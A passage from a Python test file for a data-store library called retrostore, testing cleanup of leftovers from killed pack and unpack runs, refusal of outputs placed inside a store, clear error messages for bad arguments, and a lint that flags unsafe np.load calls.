                    problems.append(f"{where} calls {name}()")
                if name == "load" and isinstance(func, ast.Attribute) and getattr(func.value, "id", "") in ("np", "numpy"):
                    kw = {k.arg: k.value for k in node.keywords}
                    ok = isinstance(kw.get("allow_pickle"), ast.Constant) and kw["allow_pickle"].value is False
                    if not ok:
                        problems.append(f"{where} calls np.load without allow_pickle=False")
    assert problems == []


def test_unpack_removes_the_temporary_directory_of_a_killed_unpack(tmp_path, hash_tar):
    """A SIGKILLed unpack leaves .tmp-unpack-<dest>.<pid>.<hex>/ beside the destination; the next
    unpack there removes it when its process is gone, and keeps a live process's."""
    import subprocess
    import sys

    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True, check=True)
    dead = tmp_path / f".tmp-unpack-dest.{int(gone.stdout)}.deadbeef"
    live = tmp_path / f".tmp-unpack-dest.{os.getppid()}.cafe0000"
    # helper-48: a running unpack into dest.20241201 (a longer name) was read as process 20241201's
    other = tmp_path / f".tmp-unpack-dest.20241201.{os.getppid()}.cafe0001"
    for d in (dead, live, other):
        (d / "index").mkdir(parents=True)
    retrostore.unpack(hash_tar, tmp_path / "dest")
    assert not dead.exists() and live.exists() and other.exists()
    with retrostore.open(tmp_path / "dest") as st:
        assert st.verify() == []


def test_pack_removes_the_leftovers_of_a_killed_pack(tmp_path, hash_store):
    """A SIGKILLed pack leaves .tmp-<out>.<pid>.<hex> (the archive so far) and
    .tmp-pack-<out>.<pid>.<hex>/ (a copy of every record: all the text) beside OUT; the next
    pack there removes those of dead processes and keeps a live one's (helper-37)."""
    import subprocess
    import sys

    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True, check=True)
    pid = int(gone.stdout)
    dead_file = tmp_path / f".tmp-a.tar.zst.{pid}.deadbeef"
    dead_dir = tmp_path / f".tmp-pack-a.tar.zst.{pid}.deadbeef"
    live = tmp_path / f".tmp-a.tar.zst.{os.getppid()}.cafe0000"
    dead_file.write_bytes(b"partial archive")
    (dead_dir / "chunks.lmdb").mkdir(parents=True)
    live.write_bytes(b"another pack in flight")
    retrostore.pack(hash_store, tmp_path / "a.tar.zst")
    assert not dead_file.exists() and not dead_dir.exists() and live.exists()


def test_outputs_inside_a_store_are_refused(tmp_path, hash_store, hash_tar):
    """helper-48: an archive packed into index/ and neighbour files into vectors/ were deleted by the
    next commit without a word; helper-49: through a symbolic link too, a pack into the store's root
    lost its temporary file to a commit, and a store unpacked or created inside index/ kept every
    writer out. Outputs anywhere in a store are refused; a directory that only holds a file named
    manifest.json is not a store."""
    from retrostore import retro

    copy_ = tmp_path / "s.rstore"
    shutil.copytree(hash_store, copy_)
    (tmp_path / "lnk").symlink_to(copy_ / "vectors")
    with retrostore.open(copy_) as st:
        for fn in [lambda: retrostore.pack(copy_, copy_ / "index" / "b.tar"),
                   lambda: retrostore.pack(copy_, copy_ / "s.tar"),
                   lambda: st.precompute_neighbors(copy_ / "vectors" / "knn.npy", k=1),
                   lambda: st.precompute_neighbors(tmp_path / "lnk" / "knn.npy", k=1),
                   lambda: st.precompute_neighbors(copy_ / "knn.npy", k=1),
                   lambda: retro.export_retro_pytorch(st, copy_ / "versions" / "exp", seq_len=128),
                   lambda: retrostore.unpack(hash_tar, copy_ / "index" / "inner"),
                   lambda: retrostore.create(copy_ / "vectors" / "inner")]:
            with pytest.raises(InvalidInputError, match=r"is inside the store .*s.rstore', whose directory the "
                                                        "store manages"):
                fn()
        other = tmp_path / "webapp"
        (other / "index").mkdir(parents=True)
        (other / "manifest.json").write_text('{"name": "my-webapp"}')
        st.precompute_neighbors(other / "index" / "knn.npy", k=1)  # (helper-49: refused as a store)
    assert sorted(p.name for p in (copy_ / "index").iterdir()) == sorted(
        p.name for p in (hash_store / "index").iterdir())
    with retrostore.open(copy_, mode="a") as st:  # a writer still opens it
        assert st.verify() == []


def test_pack_and_unpack_arguments_are_clear_errors(tmp_path, hash_store, hash_tar):
    """Flags are bools (vectors="no" shipped the vectors; overwrite="no" overwrote), OUT is not a
    directory, the archive exists: InvalidInputError naming the value, never an OSError (helper-37)."""
    out = tmp_path / "a.tar"
    for kwargs, match in [({"vectors": "no"}, r"vectors='no' must be True or False"),
                          ({"overwrite": 1}, r"overwrite=1 must be True or False")]:
        with pytest.raises(InvalidInputError, match=match):
            retrostore.pack(hash_store, out, **kwargs)
    assert not out.exists()
    (tmp_path / "d.tar").mkdir()
    with pytest.raises(InvalidInputError, match=r"d.tar is a directory; give the archive's file name"):
        retrostore.pack(hash_store, tmp_path / "d.tar", overwrite=True)
    for args, match in [((None, out), r"store_path=None must be a non-empty str or os.PathLike naming the store"),
                        ((hash_store, None), r"out=None must be a non-empty str or os.PathLike naming the archive"),
                        ((hash_store, b"a.tar"), r"out=b'a.tar' must be")]:
        with pytest.raises(InvalidInputError, match=match):  # (helper-48: a bare TypeError)
            retrostore.pack(*args)
    for args, match in [((5, tmp_path / "x"), r"archive=5 must be a non-empty str or os.PathLike"),
                        ((b"a.tar", b"d"), r"archive=b'a.tar' must be"),
                        ((hash_tar, "de\0st"), r"without NUL characters"),
                        ((hash_tar, None), r"dest=None must be a non-empty str or os.PathLike naming the store")]:
        with pytest.raises(InvalidInputError, match=match):
            retrostore.unpack(*args)
    (tmp_path / "empty").mkdir()
    for name, target in (("link", tmp_path / "empty"), ("dangling", tmp_path / "nowhere")):
        (tmp_path / name).symlink_to(target)
        with pytest.raises(InvalidInputError, match=rf"{name} is a symbolic link .*; unpack into a path that is not"):
            retrostore.unpack(hash_tar, tmp_path / name)  # (helper-48: "appeared while unpacking", ENOTDIR)
    (tmp_path / "one.jsonl").write_text("{}")
    with pytest.raises(InvalidInputError, match=r"one.jsonl is a file, not a directory"):  # (a FileExistsError)
        retrostore.pack(hash_store, tmp_path / "one.jsonl" / "x.tar")
    with pytest.raises(InvalidInputError, match=r"missing.tar does not exist"):
        retrostore.unpack(tmp_path / "missing.tar", tmp_path / "x")
    with pytest.raises(InvalidInputError, match=r"is a directory; give the .tar or .tar.zst file"):
        retrostore.unpack(tmp_path / "d.tar", tmp_path / "x")
    assert not (tmp_path / "x").exists()
